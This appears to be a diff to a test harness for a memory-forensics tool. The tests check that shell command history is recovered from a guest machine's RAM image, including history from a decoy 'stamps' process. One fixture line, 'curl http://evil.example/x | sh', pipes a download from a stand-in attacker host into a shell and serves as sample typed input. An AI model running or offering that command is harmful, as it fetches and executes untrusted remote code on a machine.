@@ -8,6 +8,7 @@ from pathlib import Path
 
 import guest
 import kernels
+from remote import compiled
 from tool import text_bytes
 
 TYPED = ["curl http://evil.example/x | sh", "echo 'two  blanks' \\", "continued", *(
@@ -16,6 +17,7 @@ TYPED = ["curl http://evil.example/x | sh", "echo 'two  blanks' \\", "continued"
 KEPT = [TYPED[0], "echo 'two  blanks' continued", *TYPED[3:]]
 # Under its own name and another one: no name of a program is believed.
 SHELLS = ("/bin/bash", "/bin/unremarkable")
+HIDDEN = b"hidden among stamps"  # the only line of programs/stamps.c
 
 
 def plans(full):
@@ -41,7 +43,12 @@ class Visit:
         typed = folder / "typed"
         typed.write_text("".join(f"{line}\n" for line in TYPED))
         machine.boot(kernels.get(kernel), 256, output=16, files={
-            "/typed": typed, **{shell: "/bin/bash" for shell in SHELLS}, **self.libraries})
+            "/typed": typed, "/bin/stamps": compiled("stamps", folder), **{shell: "/bin/bash" for shell in SHELLS}, **self.libraries})
+        status, said = machine.said("/bin/stamps > /run/stamps 2>&1 & while ! busybox grep -q ready "
+                                    "/run/stamps; do busybox sleep 1; done; echo $!")
+        if status:
+            raise guest.GuestError(said)
+        self.crowded = int(said)
         self.pids = {shell: self.start(machine, shell) for shell in SHELLS}
         machine.freeze()
         self.image = machine.folder / "ram.img"
@@ -59,13 +66,22 @@ class Visit:
 
 
 def history(tool, visit):
-    rows = tool.rows("history", visit.image)
+    result = tool.run("history", visit.image, "--format", "json")
+    if result.status != 3 or f"gap: process {visit.crowded}: only the first" not in result.stderr or \
+            len(result.stderr.splitlines()) != 1:
+        yield result.describe()
+    rows = result.rows()
     for shell, pid in visit.pids.items():
         listed = [row for row in rows if row["pid"] == pid and row["number"]]
         told = [text_bytes(row, "command").decode() for row in listed]
         if told != KEPT or [row["number"] for row in listed] != list(range(1, len(KEPT) + 1)):
             yield f"{shell}: {told}, not {KEPT}"
-    strangers = {row["pid"] for row in rows} - set(visit.pids.values())
+    # What has no number may be remains of snprintf.
+    hidden = [text_bytes(row, "command") for row in rows
+              if row["pid"] == visit.crowded and row["number"]]
+    if hidden != [HIDDEN]:
+        yield f"stamps: {hidden}"
+    strangers = {row["pid"] for row in rows} - {visit.crowded, *visit.pids.values()}
     if strangers:
         yield f"processes {strangers} have a history"
     return f"{len(rows)} lines"
